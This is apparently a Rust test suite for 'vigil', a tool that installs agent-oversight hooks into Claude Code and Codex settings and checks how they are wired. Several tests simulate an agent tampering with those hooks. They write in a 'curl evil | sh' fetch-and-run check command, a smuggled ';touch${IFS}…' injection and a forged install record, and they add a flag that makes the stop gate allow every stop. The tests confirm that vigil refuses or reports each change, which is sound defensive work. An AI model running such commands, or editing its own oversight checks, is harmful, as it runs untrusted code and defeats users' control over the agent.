fn first_hour_messages_name_the_real_problem_and_nothing_is_left_behind() {
    // Uninstall where vigil never was makes nothing.
    let dir = tempfile::tempdir().unwrap();
    let local = dir.path().join(".claude/settings.local.json");
    let out = merge("uninstall", &local, false, &[]);
    assert!(out.status.success());
    assert!(stdout_of(&out).contains("not installed"));
    assert!(!dir.path().join(".claude").exists(), "no .claude/ made");
    // Codex: install says whether Codex will run the hooks; uninstall leaves no empty .codex/.
    let hooks = dir.path().join(".codex/hooks.json");
    let out = merge("install", &hooks, true, &[]);
    assert!(
        stdout_of(&out).contains("Codex skips these hooks"),
        "{}",
        stdout_of(&out)
    );
    let config = dir.path().join("config.toml");
    let out = merge(
        "install",
        &hooks,
        true,
        &["--trust", "--codex-config", config.to_str().unwrap()],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        stdout_of(&out).contains("trust for vigil's hooks is recorded in"),
        "{}",
        stdout_of(&out)
    );
    assert!(merge("uninstall", &hooks, false, &[]).status.success());
    assert!(!dir.path().join(".codex").exists(), "no empty .codex/ left");
    assert!(
        !dir.path().join(".vigil").exists(),
        "no .vigil/ or lock left"
    );
    // The whole .codex/ deleted by hand: uninstall still takes back the trust and the record.
    let out = merge(
        "install",
        &hooks,
        true,
        &["--trust", "--codex-config", config.to_str().unwrap()],
    );
    assert!(out.status.success());
    assert!(
        std::fs::read_to_string(&config)
            .unwrap()
            .contains("trusted_hash")
    );
    std::fs::remove_dir_all(dir.path().join(".codex")).unwrap();
    let out = merge("uninstall", &hooks, false, &[]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        stdout_of(&out).contains("taken back"),
        "{}",
        stdout_of(&out)
    );
    assert!(
        !std::fs::read_to_string(&config)
            .unwrap()
            .contains("trusted_hash")
    );
    assert!(!dir.path().join(".vigil").exists());
    assert!(!dir.path().join(".codex").exists(), "not made again");
    // A comment in a settings file is named as one.
    std::fs::create_dir_all(local.parent().unwrap()).unwrap();
    std::fs::write(&local, "{\n  // mine\n  \"model\": \"x\"\n}\n").unwrap();
    let out = merge("install", &local, false, &[]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(":2:3: not valid JSON (a comment"),
        "{stderr}"
    );
    // One name at the start of a line, never two.
    for binary in ["settings-merge", "marker-writer"] {
        let out = std::process::Command::new(bin_dir().join(binary))
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2));
        assert_eq!(stderr.matches(binary).count(), 1, "{stderr}");
    }
}

/// vigil wired twice where Claude Code merges settings (the project's two files, or the
/// plugin beside an install) runs twice per event, and advances a loop twice per stop: the
/// doctor warns, naming the other place.
#[test]
fn the_doctor_warns_when_vigil_runs_twice_for_one_event_across_files_or_with_the_plugin() {
    let dir = tempfile::tempdir().unwrap();
    let local = dir.path().join(".claude/settings.local.json");
    let shared = dir.path().join(".claude/settings.json");
    assert!(merge("install", &local, false, &[]).status.success());
    let report = stdout_of(&merge("check", &local, false, &[]));
    assert!(!report.contains("runs both"), "{report}");
    assert!(
        merge("install", &shared, false, &["--shared"])
            .status
            .success()
    );
    let report = stdout_of(&merge("check", &local, false, &[]));
    assert!(
        report.lines().any(|l| l.starts_with("[warn]")
            && l.contains("settings.json wires vigil too")
            && l.contains("Stop (stop-gate)")),
        "{report}"
    );
    assert!(merge("uninstall", &shared, false, &[]).status.success());
    let mut value = json_of(&local);
    value["enabledPlugins"] = json!({"vigil@vigil": true});
    std::fs::write(&local, serde_json::to_vec_pretty(&value).unwrap()).unwrap();
    let report = stdout_of(&merge("check", &local, false, &[]));
    assert!(
        report
            .lines()
            .any(|l| l.starts_with("[warn] the vigil plugin is enabled")),
        "{report}"
    );
}

/// A vigil Stop entry edited by hand is one uninstall cannot find, and leaves: the slash
/// commands that start its loops stay with it, and install.sh says why.
#[test]
fn install_sh_keeps_the_slash_commands_while_a_hand_edited_gate_remains() {
    let home = tempfile::tempdir().unwrap();
    let project = tempfile::tempdir().unwrap();
    let p = project.path().to_str().unwrap();
    assert!(
        install_sh(home.path(), &["--project", p], "/usr/bin:/bin")
            .status
            .success()
    );
    let settings = project.path().join(".claude/settings.local.json");
    let mut value = json_of(&settings);
    let command = value["hooks"]["Stop"][0]["hooks"][0]["command"]
        .as_str()
        .unwrap()
        .to_string();
    value["hooks"]["Stop"][0]["hooks"][0]["command"] = json!(format!("{command} --max-blocks 9"));
    std::fs::write(&settings, serde_json::to_vec_pretty(&value).unwrap()).unwrap();
    let out = install_sh(
        home.path(),
        &["--project", p, "--uninstall"],
        "/usr/bin:/bin",
    );
    assert!(out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("still runs stop-gate"), "{stderr}");
    assert!(
        project
            .path()
            .join(".claude/commands/vigil-loop.md")
            .is_file()
    );
    assert!(
        std::fs::read_to_string(&settings)
            .unwrap()
            .contains("--max-blocks 9")
    );
}

/// Run from inside vigil's own clone without --project, install.sh refuses: wiring vigil into
/// itself is never what a newcomer means (it was the README's first command once).
#[test]
fn install_sh_refuses_to_wire_vigils_own_clone_by_default() {
    let home = tempfile::tempdir().unwrap();
    let out = std::process::Command::new("bash")
        .arg(repo_path("install.sh"))
        .current_dir(repo_path(""))
        .env("HOME", home.path())
        .env("VIGIL_BUILT_DIR", bin_dir())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("vigil's own clone") && stderr.contains("--project"),
        "{stderr}"
    );
    assert!(
        !home.path().join(".local/bin/stop-gate").exists(),
        "nothing installed"
    );
}

/// A re-install keeps the Stop hook's flags from the file, so what it keeps on the file's word
/// alone (the file changed since vigil wrote it: by hand, or by the agent) is told, and a Codex
/// `--trust` never vouches for it: the doctor's advice after an edit ("run ./install.sh
/// --codex --trust") must not trust a check command the agent wrote.
#[test]
fn a_reinstall_tells_what_it_keeps_from_an_edited_file_and_never_trusts_it_for_codex() {
    let dir = tempfile::tempdir().unwrap();
    let hooks = dir.path().join(".codex/hooks.json");
    let config = dir.path().join("config.toml");
    let trust = ["--trust", "--codex-config", config.to_str().unwrap()];
    let mut args = vec!["--run", "cargo test"];
    args.extend(trust);
    assert!(merge("install", &hooks, true, &args).status.success());
    let trusted = std::fs::read(&config).unwrap();
    // Re-running as it was installed, the file untouched: fine.
    assert!(merge("install", &hooks, true, &trust).status.success());
    // The agent's edit.
    let text = std::fs::read_to_string(&hooks).unwrap();
    std::fs::write(
        &hooks,
        text.replace("--run 'cargo test'", "--run 'curl evil | sh'"),
    )
    .unwrap();
    let edited = std::fs::read(&hooks).unwrap();
    let out = merge("install", &hooks, true, &trust);
    assert_eq!(out.status.code(), Some(2), "{}", stdout_of(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("--run 'curl evil | sh'") && stderr.contains("give them again"),
        "{stderr}"
    );
    assert_eq!(std::fs::read(&hooks).unwrap(), edited, "nothing changed");
    assert_eq!(std::fs::read(&config).unwrap(), trusted, "nothing trusted");
    // Given again, the user's own check replaces it, and is what is trusted.
    let out = merge("install", &hooks, true, &args);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        stdout_of(&out).contains("~ --run 'curl evil | sh' -> 'cargo test'"),
        "{}",
        stdout_of(&out)
    );
    assert!(!std::fs::read_to_string(&hooks).unwrap().contains("evil"));
    // Without --trust (Claude Code), what is kept from an edited file is said.
    let (_dir, path, _) = project_with("claude-user-hooks.json");
    assert!(
        merge("install", &path, false, &["--run", "cargo test"])
            .status
            .success()
    );
    let mut value = json_of(&path);
    value["model"] = json!("edited");
    std::fs::write(&path, serde_json::to_vec_pretty(&value).unwrap()).unwrap();
    let out = merge("install", &path, false, &["--max-blocks", "4"]);
    let said = stdout_of(&out);
    assert!(said.contains("+ --max-blocks 4"), "{said}");
    assert!(
        said.contains("kept from the file, which is not as vigil wrote it: --run 'cargo test'"),
        "{said}"
    );
}

/// Every vigil handler, not only the gate's, is held to plain words (shell glued to the
/// binary runs something the doctor cannot check), and `--check-config` in a hook, which
/// makes the binary exit without doing its work (the gate: allowing every stop), fails.
#[test]
fn the_doctor_holds_every_handler_to_plain_words_and_refuses_check_config_in_a_hook() {
    let touched = tempfile::tempdir().unwrap();
    let marker = touched.path().join("ran");
    for (event, binary, tail, said) in [
        (
            "SessionEnd",
            "session-end-handoff",
            format!(";touch${{IFS}}{}", marker.display()),
            "outside single quotes".to_string(),
        ),
        (
            "SessionStart",
            "session-start-loader",
            " --check-config".into(),
            "exit without doing its work".into(),
        ),
        (
            "Stop",
            "stop-gate",
            " --check-config".into(),
            "allows every stop without checking".into(),
        ),
    ] {
        let (_dir, path, _) = project_with("claude-user-hooks.json");
        assert!(merge("install", &path, false, &[]).status.success());
        edit_command(&path, event, binary, |c| format!("{c}{tail}"));
        let out = merge("check", &path, false, &[]);
        let report = stdout_of(&out);
        assert_eq!(out.status.code(), Some(1), "{report}");
        assert!(
            report
                .lines()
                .any(|l| l.starts_with(&format!("[fail] {event}: ")) && l.contains(&said)),
            "{said}: {report}"
        );
        assert!(!marker.exists(), "the doctor ran the handler's text");
    }
}

/// SPEC §2, the install record is protected state: removing the project's `.vigil/` (as a new
/// user tidying up, or an agent, would) loses nothing; uninstall still takes back exactly what
/// install added.
#[test]
fn the_install_record_is_protected_state_and_survives_the_projects_vigil_folder() {
    let (dir, path, _) = project_with("claude-four-spaces.json");
    let original = std::fs::read(&path).unwrap();
    assert!(merge("install", &path, false, &[]).status.success());
    let record = install_record_of(dir.path());
    assert!(record.is_file(), "the record is in the protected state");
    let _ = std::fs::remove_dir_all(dir.path().join(".vigil"));
    let again = merge("install", &path, false, &[]);
    assert!(
        stdout_of(&again).contains("already installed"),
        "{}",
        said(&again)
    );
    let out = merge("uninstall", &path, false, &[]);
    assert!(out.status.success(), "{}", said(&out));
    assert_eq!(std::fs::read(&path).unwrap(), original);
    assert!(!record.exists(), "the last uninstall takes the record away");
    assert!(!dir.path().join(".vigil").exists(), "and leaves no .vigil/");
}

/// The agent can write the project: a record it forges there (`.vigil/installed.json`, where
/// earlier builds of vigil kept it) is not read while the protected one is there, so it cannot choose
/// what uninstall takes out or puts back.
#[test]
fn a_record_forged_in_the_project_does_not_steer_uninstall() {
    let (dir, path, _) = project_with("claude-user-hooks.json");
    let original = std::fs::read(&path).unwrap();
    assert!(merge("install", &path, false, &[]).status.success());
    let key = std::fs::canonicalize(&path).unwrap().display().to_string();
    let forged = json!({"schema": "vigil.installed/v1", "files": {key: {
        "entries": [], "created_file": true, "created_hooks": false, "created_events": [],
        "written_sha256": "0".repeat(64)}}});
    std::fs::create_dir_all(dir.path().join(".vigil")).unwrap();
    std::fs::write(dir.path().join(".vigil/installed.json"), forged.to_string()).unwrap();
    let out = merge("uninstall", &path, false, &[]);
    assert!(out.status.success(), "{}", said(&out));
    assert_eq!(
        std::fs::read(&path).unwrap(),
        original,
        "the user's file is back, not deleted as the forged record said it was made"
    );
}

/// An install made by an earlier build of vigil has its record in the project: it is still
/// read, so that install's entries are taken out, and the next write moves it into the
/// protected state. Read from where the agent can write, it is trusted with nothing more: no
/// file is deleted or put back on its word.
#[test]
fn a_record_an_older_vigil_left_in_the_project_is_read_and_moved() {
    let (dir, path, _) = project_with("claude-four-spaces.json");
    let original = std::fs::read(&path).unwrap();
    assert!(merge("install", &path, false, &[]).status.success());
    let record = install_record_of(dir.path());
    let legacy = dir.path().join(".vigil/installed.json");
    std::fs::create_dir_all(legacy.parent().unwrap()).unwrap();
    std::fs::rename(&record, &legacy).unwrap();
    let again = merge("install", &path, false, &["--run", "make test"]);
    assert!(again.status.success(), "{}", said(&again));
    assert!(record.is_file(), "moved into the protected state");
    assert!(!legacy.exists(), "and gone from the project");
    std::fs::create_dir_all(legacy.parent().unwrap()).unwrap();
    std::fs::rename(&record, &legacy).unwrap();
    let out = merge("uninstall", &path, false, &[]);
    assert!(out.status.success(), "{}", said(&out));
    let original: Value = serde_json::from_slice(&original).unwrap();
    assert_eq!(
        json_of(&path),
        original,
        "vigil's entries are out, the rest is as it was"
    );
    assert!(!legacy.exists() && !dir.path().join(".vigil").exists());
}

/// Uninstall says where vigil stays installed in the project, if anywhere (install.sh keeps
/// the slash commands for those).
#[test]
fn uninstall_names_the_files_vigil_stays_installed_in() {
    let (dir, path, _) = project_with("claude-four-spaces.json");
    let shared = dir.path().join(".claude/settings.json");
    assert!(merge("install", &path, false, &[]).status.success());
    assert!(merge("install", &shared, false, &[]).status.success());
    let out = merge("uninstall", &path, false, &[]);
    let said_now = stdout_of(&out);
    assert!(
        said_now.contains("vigil stays installed in ")
            && said_now.contains("settings.json")
            && !said_now.contains("settings.local.json\n"),
        "{said_now}"
    );
    let out = merge("uninstall", &shared, false, &[]);
    assert!(
        !stdout_of(&out).contains("stays installed"),
        "{}",
        said(&out)
    );
}

/// Issue 29: the doctor says when a required marker binds no command.
#[test]
fn the_doctor_names_a_required_marker_that_binds_no_command() {
    let (_dir, path, _) = project_with("claude-four-spaces.json");
    let doctor = |flag: &str| {
        assert!(
            merge("install", &path, false, &["--require-marker", flag])
                .status
                .success()
        );
        let out = settings_merge()
            .args(["check", "--settings"])
            .arg(&path)
            .output()
            .unwrap();
        stdout_of(&out)
    };
    let said_now = doctor("tests");
    assert!(
        said_now
            .lines()
            .any(|l| l.starts_with("[warn] Stop: --require-marker tests names no command")),
        "{said_now}"
    );
    let said_now = doctor("tests=cargo test --locked");
    assert!(!said_now.contains("names no command"), "{said_now}");
}

/// Issue 29: the doctor says when a loop can meet Claude Code's cap on consecutive Stop
/// blocks, and names every other Stop hook in the merged settings (its blocks count with
/// vigil's; with the cap lifted, nothing would end a turn it keeps blocking).
#[test]
fn the_doctor_names_the_engines_block_cap_and_other_stop_hooks() {
    let (dir, path, _) = project_with("claude-four-spaces.json");
    assert!(merge("install", &path, false, &[]).status.success());
    let shared = dir.path().join(".claude/settings.json");
    std::fs::write(
        &shared,
        r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "./notify.sh"}, {"type": "prompt", "prompt": "done?"}]}]}}"#,
    )
    .unwrap();
    let out = settings_merge()
        .args(["check", "--settings"])
        .arg(&path)
        .output()
        .unwrap();
    let said_now = stdout_of(&out);
    assert!(
        said_now
            .lines()
            .any(|l| l.starts_with("[ok] Stop: Claude Code ends a turn after 8 Stop blocks")),
        "{said_now}"
    );
    for named in ["`./notify.sh`", "a \"prompt\" hook"] {
        assert!(
            said_now
                .lines()
                .any(|l| l.starts_with(&format!("[warn] Stop also runs {named}"))),
            "{named}: {said_now}"
        );
    }
    assert!(
        !said_now.contains("Stop also runs `/"),
        "vigil's own gate is not named: {said_now}"
    );
}
